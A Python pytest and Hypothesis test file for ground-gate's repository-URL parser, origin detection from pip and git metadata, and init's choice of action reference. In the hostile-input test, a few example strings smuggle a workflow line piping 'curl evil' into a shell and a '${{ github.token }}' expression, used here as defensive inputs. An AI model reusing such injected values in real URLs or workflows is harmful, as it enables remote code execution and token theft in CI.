"""Where ground-gate's action lives (stages/starter/origin.py): a repository URL read as
(host, owner, repo) or refused, whatever the string; ground-gate's own install read in order
(the repository pip installed it from, the clone's git remote, its metadata's URL); the
`uses:` init writes from it. No test reaches the network: git reads a local config only."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ground_gate.commands.init import ACTION, choose_action
from ground_gate.stages.starter.origin import OWNER, REPO, Origin, find_origin, parse_repository

WORKFLOW = Path(".github/workflows/ground-gate.yml")


@pytest.mark.parametrize(
    ("url", "parsed"),
    [
        ("https://github.com/forker/ground-gate", ("github.com", "forker", "ground-gate")),
        ("https://github.com/forker/ground-gate.git", ("github.com", "forker", "ground-gate")),
        ("https://github.com/forker/ground-gate/", ("github.com", "forker", "ground-gate")),
        ("https://user:tok@GitHub.com:443/a-b/gg.x", ("github.com", "a-b", "gg.x")),
        ("git+https://github.com/forker/ground-gate", ("github.com", "forker", "ground-gate")),
        ("ssh://git@github.com/forker/ground-gate", ("github.com", "forker", "ground-gate")),
        ("git@github.com:forker/ground-gate.git", ("github.com", "forker", "ground-gate")),
        ("github.com:forker/ground-gate", ("github.com", "forker", "ground-gate")),
        ("https://ghe.corp.example/team/ground-gate.git", ("ghe.corp.example", "team", "ground-gate")),
        ("https://github.com/forker/ground-gate/archive/refs/tags/v1.tar.gz",
         ("github.com", "forker", "ground-gate")),
        ("https://github.com/ground-gate/ground-gate#readme", ("github.com", "ground-gate", "ground-gate")),
    ],
)  # fmt: skip
def test_parse_repository__the_forms_git_and_pip_write(url, parsed):
    assert parse_repository(url) == parsed


@pytest.mark.parametrize(
    "url",
    [
        "", "github.com", "https://github.com/forker", "https://gitlab.com/group/sub/ground-gate",
        "https://github.com/forker/ground-gate/issues", "file:///srv/git/ground-gate.git",
        "/srv/git/ground-gate.git", "https://github.com/-forker/gg", "https://github.com/a_b/gg",
        "https://github.com/" + "a" * 40 + "/gg", "https://github.com/forker/..",
        "https://github.com/forker/.git", "https://github.com/forker/gg.git.git",
        "https://github.com/forker/gg?x=1", "https://github.com/forker/gg\n",
        "https://github.com/forker\n/gg", "https://github.com/for$ker/gg",
        "https://github.com/%24%7B%7Bx%7D%7D/gg", "https://[::1/forker/gg", "ftp://github.com/a/b",
        "https://github.com/forkér/gg",
    ],
)  # fmt: skip
def test_parse_repository__refuses_what_is_not_an_owner_and_repository(url):
    assert parse_repository(url) is None


HOSTILE = st.text(
    alphabet=st.one_of(st.sampled_from("/:@.$-_{}'\"\n\r\t #?%\\git"), st.characters()),
    max_size=60,
)


@given(
    url=st.one_of(
        HOSTILE,
        HOSTILE.map(lambda t: f"https://github.com/{t}"),
        HOSTILE.map(lambda t: f"git@github.com:{t}/ground-gate.git"),
        st.tuples(HOSTILE, HOSTILE).map(lambda p: f"ssh://git@{p[0]}/{p[1]}/gg"),
    )
)
@example(url="https://github.com/x\n      - run: curl evil | sh/gg")
@example(url="git@github.com:${{ github.token }}/gg.git")
@example(url="https://github.com/x/gg\n")
def test_parse_repository__hostile_strings_give_checked_names_or_none(url):
    parsed = parse_repository(url)
    if parsed is None:
        return
    _host, owner, repo = parsed
    assert OWNER.fullmatch(owner) and REPO.fullmatch(repo)
    for name in parsed:
        assert not any(ch.isspace() or ch in "$'\"{}#:@" for ch in name)
    assert f"{owner}/{repo}@v1".isascii()


def install(site: Path, name: str, direct: dict[str, object] | None, *urls: str) -> None:
    """A distribution `name` in `site`, as pip leaves one: METADATA, direct_url.json."""
    info = site / f"{name.replace('-', '_')}-0.1.0.dist-info"
    info.mkdir(parents=True)
    lines = [
        "Metadata-Version: 2.1",
        f"Name: {name}",
        "Version: 0.1.0",
        *(f"Project-URL: {u}" for u in urls),
    ]
    (info / "METADATA").write_text("\n".join(lines) + "\n", encoding="utf-8")
    if direct is not None:
        (info / "direct_url.json").write_text(json.dumps(direct), encoding="utf-8")


def clone(path: Path, *remotes: tuple[str, str], action: bool = True) -> Path:
    path.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True, stdin=subprocess.DEVNULL)
    for name, url in remotes:
        subprocess.run(["git", "-C", str(path), "remote", "add", name, url], check=True)
    if action:
        (path / "action.yml").write_text("name: ground-gate\n", encoding="utf-8")
    return path


DECLARED = ("Homepage, https://github.com/ground-gate/ground-gate",
            "Repository, https://github.com/ground-gate/ground-gate")  # fmt: skip


@pytest.fixture
def site(tmp_path, monkeypatch):
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    return tmp_path / "site"


def test_find_origin__the_repository_pip_installed_it_from(site, tmp_path):
    vcs = {"url": "https://github.com/forker/ground-gate.git",
           "vcs_info": {"vcs": "git", "commit_id": "0" * 40}}  # fmt: skip
    install(site, "gg-vcs", vcs, *DECLARED)
    found = find_origin("gg-vcs", tmp_path / "nowhere")
    assert found == Origin(
        "github.com", "forker", "ground-gate", "the repository pip installed it from"
    )
    assert found.action == "forker/ground-gate@v1"


def test_find_origin__a_clone_its_origin_else_upstream_else_its_only_remote(site, tmp_path):
    forked = clone(tmp_path / "a", ("upstream", "https://github.com/ground-gate/ground-gate"),
                   ("origin", "git@github.com:forker/ground-gate.git"))  # fmt: skip
    install(site, "gg-a", {"url": forked.as_uri(), "dir_info": {"editable": True}}, *DECLARED)
    assert find_origin("gg-a", tmp_path / "nowhere").owner == "forker"
    two = clone(tmp_path / "b", ("mine", "https://github.com/me/gg"),
                ("upstream", "https://github.com/up/ground-gate"))  # fmt: skip
    install(site, "gg-b", {"url": two.as_uri(), "dir_info": {}}, *DECLARED)
    assert find_origin("gg-b", tmp_path / "nowhere").owner == "up"
    only = clone(tmp_path / "c", ("mine", "ssh://git@github.com/me/gg"))
    install(site, "gg-c", {"url": only.as_uri(), "dir_info": {}})
    found = find_origin("gg-c", tmp_path / "nowhere")
    assert (found.owner, found.repo, found.how) == (
        "me", "gg", "the git remote of the clone it was installed from",
    )  # fmt: skip


def test_find_origin__the_source_tree_it_runs_from_when_no_install_names_one(site, tmp_path):
    install(site, "gg-src", None, *DECLARED)  # installed from an index: no direct_url.json
    source = clone(tmp_path / "src", ("origin", "https://github.com/forker/ground-gate"))
    assert find_origin("gg-src", source).owner == "forker"


def test_find_origin__falls_back_to_the_package_metadatas_repository(site, tmp_path):
    bare = clone(tmp_path / "bare")  # no remote
    local = clone(tmp_path / "local", ("origin", "/srv/git/ground-gate.git"))
    notaction = clone(tmp_path / "app", ("origin", "https://github.com/me/app"), action=False)
    for i, where in enumerate((bare, local, notaction, tmp_path / "gone")):
        install(site, f"gg-{i}", {"url": where.as_uri(), "dir_info": {}}, *DECLARED)
        found = find_origin(f"gg-{i}", tmp_path / "nowhere")
        assert found == Origin("github.com", "ground-gate", "ground-gate",
                               "the repository its package metadata names")  # fmt: skip


def test_find_origin__none_when_nothing_tells(site, tmp_path):
    install(site, "gg-none", {"url": "not json's shape", "dir_info": "?"})
    assert find_origin("gg-none", tmp_path / "nowhere") is None
    assert find_origin("gg-not-installed", tmp_path / "nowhere") is None
    broken = site / "gg_broken-0.1.0.dist-info"
    broken.mkdir()
    (broken / "METADATA").write_text("Name: gg-broken\nVersion: 1\n", encoding="utf-8")
    (broken / "direct_url.json").write_bytes(b"\xff{")
    assert find_origin("gg-broken", tmp_path / "nowhere") is None


def test_choose_action__given_found_elsewhere_or_unknown():
    assert choose_action("me/gg@v2", None, WORKFLOW) == ("me/gg@v2", "--action", "")
    on_github = Origin(
        "github.com", "forker", "ground-gate", "the repository pip installed it from"
    )
    action, said, todo = choose_action(None, on_github, WORKFLOW)
    assert (action, todo) == ("forker/ground-gate@v1", "")
    assert said.startswith("github.com/forker/ground-gate, where ground-gate came from: ")
    # another host's names may be someone else's on github.com: only suggested
    enterprise = Origin(
        "ghe.corp.example", "team", "ground-gate", "the repository pip installed it from"
    )
    action, said, todo = choose_action(None, enterprise, WORKFLOW)
    assert action == ACTION == "OWNER/ground-gate@v1"
    assert todo == (
        "replace OWNER in .github/workflows/ground-gate.yml (uses: OWNER/ground-gate@v1) with the "
        "account that hosts ground-gate's action: team/ground-gate@v1 if your workflows run on "
        "ghe.corp.example; or run init again with --action OWNER/REPO@REF"
    )
    action, said, todo = choose_action(None, None, WORKFLOW)
    assert action == ACTION
    assert todo == (
        "replace OWNER in .github/workflows/ground-gate.yml (uses: OWNER/ground-gate@v1) with the "
        "account that hosts ground-gate's action, or run init again with --action OWNER/REPO@REF"
    )
